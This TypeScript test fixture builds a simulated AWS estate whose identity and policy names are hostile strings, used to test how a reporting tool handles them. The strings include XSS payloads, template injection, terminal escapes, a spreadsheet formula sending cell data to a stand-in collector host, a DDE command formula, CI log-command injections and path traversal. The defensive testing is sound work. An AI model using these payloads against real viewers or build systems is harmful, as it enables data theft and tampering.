import { emptyEstate } from "./empty.ts";
import { plant, type Estate, type PlannedIdentity } from "./estate.ts";
import { allow, deny } from "./statements.ts";

/** Texts that have broken reports, terminals, spreadsheets, logs and build servers. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  markup: `<img src=x onerror=alert(1)>"'><script>alert(1)</script>`,
  template: "{{constructor.constructor('return process')()}}{{{json}}}${7*7}<%= 7*7 %>",
  terminal: "\u001B[2J\u001B]0;owned\u0007\u009B31m",
  bidirectional: "\u202Emoc.elpmaxe\u2066\u200B\u2069",
  formula: `=HYPERLINK("http://collector.example/?"&A1,"open")`,
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  log: "::error file=app.js,line=1::owned%0A::set-output name=x::y",
  azure: "##[error]owned ##vso[task.setvariable variable=x]y\n##[group]hidden",
  teamcity: "##teamcity[buildStatus status='SUCCESS' text='owned']",
  gitlab: "section_start:1700000000:owned[collapsed=true]",
  buildkite: "+++ owned\n--- hidden\n^^^ +++",
  comment: "<!-- owned --> ]]>",
  markdown: "[click](javascript:alert(1)) ![x](http://collector.example/x) | a | b |\n# title",
  sarif: "SARIF_BUILDER_INVALID {0} %SRCROOT% file:///etc/passwd",
  path: "../../etc/passwd\u0000.html",
  emoji: "👩‍👩‍👧‍👦🏳️‍🌈🇪🇺",
  lines: "first\r\nsecond\u2028third\u0085fourth",
  prototype: "__proto__",
  constructor: "constructor",
};

/** 320 characters, the most that an address may have. */
const LONG_ADDRESS = `${"a".repeat(64)}@${"b".repeat(255 - ".example".length)}.example`;

const open = (name: string, text: string): PlannedIdentity => ({
  name,
  // the SDK loses a policy of this name: it builds its map on a plain object
  exposure: text === "__proto__" ? "unread" : "exposed",
  why: "open to everyone; its texts are hostile",
  policies: {
    [text]: [{ Sid: text, ...allow("*") }],
    plain: [{ Sid: text, ...deny({ AWS: "123456789012" }) }],
  },
});

/** One open identity for each text, as its name, its policy's name and its Sid, and some of other shapes. */
const identities = (): readonly PlannedIdentity[] => [
  ...Object.values(HOSTILE_TEXTS).map((text) => open(text, text)),
  ...Object.entries(HOSTILE_TEXTS).map(([kind, text]) => open(`${kind}@hostile.example`, text)),
  open(LONG_ADDRESS, "x".repeat(64)),
  {
    name: "deep.hostile.example",
    exposure: "invalid",
    why: "JSON that is nested 100,000 deep",
    policies: { deep: `${"[".repeat(100_000)}${"]".repeat(100_000)}` },
  },
  {
    name: "large.hostile.example",
    exposure: "invalid",
    why: "a policy of 100 KB, where AWS ends at 4 KB",
    policies: {
      large: Array.from({ length: 400 }, (_, index) => ({ Sid: `S${index}`, ...allow("*") })),
    },
  },
  {
    name: "huge.hostile.example",
    exposure: "invalid",
    why: "a text of 5 MB that is no JSON",
    policies: { huge: "{".padEnd(5_000_000, "x") },
  },
  {
    name: "empty.hostile.example",
    exposure: "invalid",
    why: "an empty document",
    policies: { empty: "" },
  },
];

/** As the empty estate, with identities whose every text is an attack on who shows it. */
export const hostileEstate = (): Estate => {
  const estate = emptyEstate();
  const [account] = estate.world.accounts.values();
  const planted = account === undefined ? [] : plant(account, { "us-east-1": identities() });
  return { ...estate, planted };
};
